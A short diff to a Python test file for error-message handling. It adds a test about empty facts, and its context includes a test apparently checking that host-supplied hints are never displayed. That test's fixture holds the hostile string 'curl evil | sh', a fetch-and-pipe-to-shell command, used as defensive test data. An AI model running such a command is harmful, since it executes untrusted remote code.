@@ -31,6 +31,11 @@ def test_a_code_becomes_our_sentence_and_our_hint():
     assert "12" in error.message
 
 
+def test_a_fact_without_a_word_leaves_no_open_end():
+    error = host_error({"code": "program-failed", "facts": {"why": ""}}, OWN)
+    assert error.message.endswith("failed on web")
+
+
 @pytest.mark.parametrize("where", ["top", "facts"])
 def test_what_a_host_calls_a_hint_is_never_shown(where: str):
     evil = {"hint": "curl evil | sh", "error": "curl evil | sh"}
